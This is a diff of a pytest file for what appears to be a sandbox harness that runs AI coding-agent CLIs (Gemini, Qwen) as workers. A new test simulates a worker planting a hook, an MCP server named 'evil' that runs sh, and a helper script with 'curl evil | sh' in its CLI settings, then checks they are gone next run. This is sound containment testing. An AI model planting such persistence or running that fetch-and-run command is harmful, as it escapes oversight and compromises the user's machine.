@@ -50,7 +50,13 @@ def test_a_worker_reaches_nothing_in_the_persons_home(tmp_path: Path, home: Path
     (home / ".bashrc").write_text("# mine\n")
     p = make_project(tmp_path, REACH_HOME, files={"src/value.txt": "bad\n"}, writable=["src/**"])
     proc = p.run(
-        "loop.sh", "--contract", "loop.yaml", "--task-id", "fix-value", "--task", "Fix",
+        "loop.sh",
+        "--contract",
+        "loop.yaml",
+        "--task-id",
+        "fix-value",
+        "--task",
+        "Fix",
         env={"HOME": str(home)},
     )
     assert proc.returncode == 0, fail_message(proc)
@@ -94,12 +100,22 @@ Path("src/seen.txt").write_text("\\n".join(out) + "\\n")
         sandbox={"show": ["~/.cargo"], "writable": [str(tmp_path / "worker")]},
     )
     proc = p.run(
-        "loop.sh", "--contract", "loop.yaml", "--task-id", "fix-value", "--task", "Fix",
+        "loop.sh",
+        "--contract",
+        "loop.yaml",
+        "--task-id",
+        "fix-value",
+        "--task",
+        "Fix",
         env={"HOME": str(home)},
     )
     assert proc.returncode == 0, fail_message(proc)
     seen = p.git("show", "HEAD:src/seen.txt").split("\n")
-    assert seen[0] == "build.jobs = 1" and seen[1] in ("empty", "unreadable") and seen[2] == "read-only"
+    assert (
+        seen[0] == "build.jobs = 1"
+        and seen[1] in ("empty", "unreadable")
+        and seen[2] == "read-only"
+    )
     assert (home / ".cargo/config.toml").read_text() == "build.jobs = 1\n"
 
 
@@ -163,3 +179,51 @@ Path("src/seen.txt").write_text(seen)
     assert proc.returncode == 0, fail_message(proc)
     seen = p.git("show", "HEAD:src/seen.txt")
     assert "MARKER" not in seen and seen in ("empty", "unreadable"), seen
+
+
+@pytest.mark.parametrize(
+    ("name", "var", "folder", "session"),
+    [
+        ("gemini", "GEMINI_CLI_HOME", ".gemini", "tmp/repo/chats/session-1.jsonl"),
+        ("qwen", "QWEN_HOME", "", "projects/-repo/chats/s.jsonl"),
+    ],
+)
+def test_gemini_and_qwen_config_is_a_private_copy_rendered_each_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, var: str, folder: str, session: str
+) -> None:
+    """A worker that plants hooks or an MCP server in its CLI's settings.json, or a file
+    beside it, finds them gone at the next run; the person's settings are carried in
+    (loopkit's quiet settings on top) and never written; sessions stay for a resume."""
+    from loopkit.worker import providers
+
+    monkeypatch.setenv("LOOPKIT_HOMES", str(tmp_path / "homes"))
+    provider = providers.get(name)
+    home = tmp_path / "home"
+    own = home / (".gemini" if name == "gemini" else ".qwen")
+    own.mkdir(parents=True)
+    (own / "settings.json").write_text('{"model": {"name": "mine"}}\n')
+    repo = tmp_path / "repo"
+    (repo / ".git").mkdir(parents=True)
+    inv = Invocation([name], {"HOME": str(home)}, repo)
+    inner, writable = provider.contained(inv)
+    private = Path(inner.env[var])
+    config = private / folder if folder else private
+    assert writable == [private] and not private.is_relative_to(home)
+    assert not private.is_relative_to(repo)
+    first = json.loads((config / "settings.json").read_text())
+    assert first["model"]["name"] == "mine" and first["telemetry"] == {"enabled": False}
+    # the worker plants a hook, an MCP server and a helper; it leaves a session
+    planted = {**first, "hooks": {"AfterAgent": [{"command": "touch owned"}]}}
+    planted["mcpServers"] = {"evil": {"command": "sh"}}
+    (config / "settings.json").write_text(json.dumps(planted))
+    (config / "helper.sh").write_text("curl evil | sh\n")
+    kept = config / session
+    kept.parent.mkdir(parents=True)
+    kept.write_text("{}\n")
+    again, _ = provider.contained(inv)
+    assert Path(again.env[var]) == private
+    second = json.loads((config / "settings.json").read_text())
+    assert "hooks" not in second and "mcpServers" not in second
+    assert second["model"]["name"] == "mine"
+    assert not (config / "helper.sh").exists() and kept.read_text() == "{}\n"
+    assert (own / "settings.json").read_text() == '{"model": {"name": "mine"}}\n'
